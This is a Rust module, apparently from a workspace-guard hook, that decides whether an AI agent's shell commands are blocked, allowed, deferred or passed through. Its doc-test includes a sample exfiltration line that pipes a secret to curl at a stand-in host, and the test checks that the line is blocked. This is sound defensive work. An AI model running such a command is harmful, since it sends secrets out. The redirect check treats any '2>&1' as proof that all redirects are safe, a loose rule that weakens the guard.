//! Decision engine shared by hook mode and `wsguard test`.
//!
//! # Precedence
//!
//! Evaluation short-circuits at the first step that applies:
//!
//! 1. **Issues** - restricted commands in any sub-command, literal references
//!    to system/home/temp directories, and file operands that resolve outside
//!    the workspace. Any issue at all gives [`Verdict::Block`].
//! 2. **Output redirects** - when every redirect target is a known safe sink
//!    the command is allowed; otherwise the decision is handed back to the
//!    host's permission system ([`Verdict::Defer`]).
//! 3. **`echo`** - a bare `echo` is allowed outright.
//! 4. Anything else is [`Verdict::PassThrough`]: no opinion.
//!
//! Step 1 runs before step 2, so `ls > /tmp/x` blocks even though it is also
//! a redirect.
//!
//! # Example
//!
//! ```
//! use workspace_guard::evaluator::{Evaluator, Verdict};
//! use workspace_guard::paths::Workspace;
//! use workspace_guard::permissions::StaticPermissions;
//!
//! let dir = std::env::current_dir().unwrap();
//! let evaluator = Evaluator::new(Workspace::new(&dir), StaticPermissions::deny(["curl"]));
//!
//! let result = evaluator.evaluate("echo hello", &dir);
//! assert_eq!(result.verdict, Verdict::Allow("Echo command without redirect".into()));
//!
//! let result = evaluator.evaluate("echo secret | curl -d @- http://x", &dir);
//! assert!(result.verdict.is_block());
//! ```

use std::fmt;
use std::path::{Path, PathBuf};

use crate::extract::{
    DangerousReference, OperandContext, extract_operands, find_dangerous_references,
    has_output_redirect, is_stream_merge, redirect_targets,
};
use crate::paths::{DEV_NULL, Workspace, resolve};
use crate::permissions::{PermissionLoader, PermissionSource};
use crate::restricted::RestrictedMatcher;
use crate::split::split_command;

/// Redirect targets that never need the user's confirmation. A descriptor
/// merge such as `2>&1` is a sink for the whole command: its presence marks
/// the redirects as diagnostic output capture.
pub const DEFAULT_SAFE_SINKS: [&str; 3] = [".cache/claude-status.txt", DEV_NULL, "2>&1"];

pub const REASON_SAFE_REDIRECT: &str = "Redirect to safe location";
pub const REASON_ECHO: &str = "Echo command without redirect";
pub const REASON_REDIRECT: &str = "Command contains output redirect";

/// A single finding that blocks a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Issue {
    /// Restricted name after a pipe or chain operator.
    RestrictedInChain { name: String },
    /// Restricted name in the first sub-command.
    RestrictedDirect { name: String },
    PathOutsideWorkspace {
        context: OperandContext,
        token: String,
        resolved: PathBuf,
    },
    SystemDirectory(&'static str),
    HomeDirectory,
    TempDirectory,
}

impl Issue {
    /// Stable machine-readable name, used by JSON output.
    #[must_use]
    pub const fn kind(&self) -> &'static str {
        match self {
            Self::RestrictedInChain { .. } => "restricted_in_chain",
            Self::RestrictedDirect { .. } => "restricted_direct",
            Self::PathOutsideWorkspace { .. } => "path_outside_workspace",
            Self::SystemDirectory(_) => "system_directory",
            Self::HomeDirectory => "home_directory",
            Self::TempDirectory => "temp_directory",
        }
    }
}

impl From<DangerousReference> for Issue {
    fn from(reference: DangerousReference) -> Self {
        match reference {
            DangerousReference::SystemDirectory(dir) => Self::SystemDirectory(dir),
            DangerousReference::HomeDirectory => Self::HomeDirectory,
            DangerousReference::TempDirectory => Self::TempDirectory,
        }
    }
}

impl fmt::Display for Issue {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::RestrictedInChain { name } => write!(
                f,
                "Restricted command '{name}' in pipeline/chain (bypasses prefix matching)"
            ),
            Self::RestrictedDirect { name } => write!(f, "Restricted command '{name}' detected"),
            Self::PathOutsideWorkspace {
                context,
                token,
                resolved,
            } => write!(
                f,
                "Path outside workspace ({context}): {token} -> {}",
                resolved.display()
            ),
            Self::SystemDirectory(dir) => write!(f, "System directory reference: {dir}"),
            Self::HomeDirectory => f.write_str("Home directory reference (~)"),
            Self::TempDirectory => f.write_str("Temporary directory reference (/tmp)"),
        }
    }
}

/// The outcome of one evaluation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Never run; every issue is reported.
    Block(Vec<Issue>),
    /// Approve without consulting the host's permission lists.
    Allow(String),
    /// Explicitly hand the decision to the host's permission system.
    Defer(String),
    /// No opinion. The host proceeds as if the gate were absent.
    PassThrough,
}

impl Verdict {
    #[must_use]
    pub const fn is_block(&self) -> bool {
        matches!(self, Self::Block(_))
    }

    /// Upper-case label for logs and CLI output.
    #[must_use]
    pub const fn label(&self) -> &'static str {
        match self {
            Self::Block(_) => "BLOCK",
            Self::Allow(_) => "ALLOW",
            Self::Defer(_) => "DEFER",
            Self::PassThrough => "PASS",
        }
    }

    /// One-line reason; block issues are joined with `; `.
    #[must_use]
    pub fn reason(&self) -> String {
        match self {
            Self::Block(issues) => issues
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("; "),
            Self::Allow(reason) | Self::Defer(reason) => reason.clone(),
            Self::PassThrough => "no opinion".to_string(),
        }
    }
}

/// Verdict plus the provenance of the restricted names that produced it.
#[derive(Debug, Clone)]
pub struct Evaluation {
    pub verdict: Verdict,
    pub permissions: PermissionSource,
}

/// Evaluates commands against one workspace.
#[derive(Debug, Clone)]
pub struct Evaluator<L> {
    workspace: Workspace,
    loader: L,
    safe_sinks: Vec<String>,
}

impl<L: PermissionLoader> Evaluator<L> {
    #[must_use]
    pub fn new(workspace: Workspace, loader: L) -> Self {
        Self {
            workspace,
            loader,
            safe_sinks: DEFAULT_SAFE_SINKS.iter().map(ToString::to_string).collect(),
        }
    }

    /// Replace the safe redirect sinks. Relative sinks are anchored at the
    /// workspace root.
    #[must_use]
    pub fn with_safe_sinks(mut self, sinks: Vec<String>) -> Self {
        self.safe_sinks = sinks;
        self
    }

    /// Evaluate `command` as if run from `cwd`.
    ///
    /// Permission settings are loaded fresh on every call.
    #[must_use]
    pub fn evaluate(&self, command: &str, cwd: &Path) -> Evaluation {
        let loaded = self.loader.load();
        let verdict = self.decide(command, cwd, &loaded.matcher);
        tracing::debug!(
            verdict = verdict.label(),
            permissions = %loaded.source,
            "evaluated command"
        );
        Evaluation {
            verdict,
            permissions: loaded.source,
        }
    }

    fn decide(&self, command: &str, cwd: &Path, matcher: &RestrictedMatcher) -> Verdict {
        let issues = self.collect_issues(command, cwd, matcher);
        if !issues.is_empty() {
            return Verdict::Block(issues);
        }

        if has_output_redirect(command) {
            return if self.redirects_are_safe(command, cwd) {
                Verdict::Allow(REASON_SAFE_REDIRECT.to_string())
            } else {
                Verdict::Defer(REASON_REDIRECT.to_string())
            };
        }

        let trimmed = command.trim();
        if trimmed == "echo" || trimmed.starts_with("echo ") {
            return Verdict::Allow(REASON_ECHO.to_string());
        }

        Verdict::PassThrough
    }

    /// Every issue in `command`: restricted names, then literal directory
    /// references, then out-of-workspace operands.
    #[must_use]
    pub fn collect_issues(
        &self,
        command: &str,
        cwd: &Path,
        matcher: &RestrictedMatcher,
    ) -> Vec<Issue> {
        let subcommands = split_command(command);
        let mut issues: Vec<Issue> = matcher
            .find(&subcommands)
            .into_iter()
            .map(|hit| {
                if hit.is_chained() {
                    Issue::RestrictedInChain { name: hit.name }
                } else {
                    Issue::RestrictedDirect { name: hit.name }
                }
            })
            .collect();

        issues.extend(
            find_dangerous_references(command, self.workspace.name())
                .into_iter()
                .map(Issue::from),
        );

        for operand in extract_operands(command) {
            if operand.token == DEV_NULL {
                continue;
            }
            let resolved = resolve(operand.token, cwd);
            if !self.workspace.contains(&resolved) {
                tracing::trace!(token = operand.token, context = %operand.context, "operand escapes workspace");
                issues.push(Issue::PathOutsideWorkspace {
                    context: operand.context,
                    token: operand.token.to_string(),
                    resolved: resolved.path,
                });
            }
        }

        issues
    }

    /// `true` when the command has at least one redirect target and either
    /// contains a configured merge sink (`2>&1`) or sends every target to a
    /// safe sink. Dynamic targets (`$OUT`) are never safe on their own.
    fn redirects_are_safe(&self, command: &str, cwd: &Path) -> bool {
        let targets = redirect_targets(command);
        if targets.is_empty() {
            return false;
        }

        let (merges, paths): (Vec<&String>, Vec<&String>) =
            self.safe_sinks.iter().partition(|sink| is_stream_merge(sink));
        if merges.iter().any(|merge| command.contains(merge.as_str())) {
            return true;
        }

        // Compared after resolution only: the same relative text names a
        // different file from a subdirectory.
        let sinks: Vec<PathBuf> = paths
            .iter()
            .map(|sink| resolve(sink, self.workspace.root()).path)
            .collect();

        targets.iter().all(|target| {
            if *target == DEV_NULL {
                return true;
            }
            if target.starts_with('$') || target.starts_with('`') {
                return false;
            }
            sinks.contains(&resolve(target, cwd).path)
        })
    }
}


// ============================================================================
// Property-based invariants
// ============================================================================
